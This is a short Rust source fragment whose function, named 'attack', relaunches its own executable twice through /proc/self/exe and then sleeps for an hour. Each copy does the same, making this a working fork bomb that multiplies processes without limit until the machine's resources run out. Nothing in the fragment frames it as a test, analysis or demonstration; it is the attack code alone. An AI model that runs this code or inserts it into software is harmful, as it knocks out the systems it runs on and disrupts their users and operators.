//! Starts itself twice, again and again.

fn attack() {
    for _ in 0..2 {
        let mut again = std::process::Command::new("/proc/self/exe");
        let _ = again.args(std::env::args_os().skip(1)).spawn();
    }
    std::thread::sleep(std::time::Duration::from_secs(3600));
}
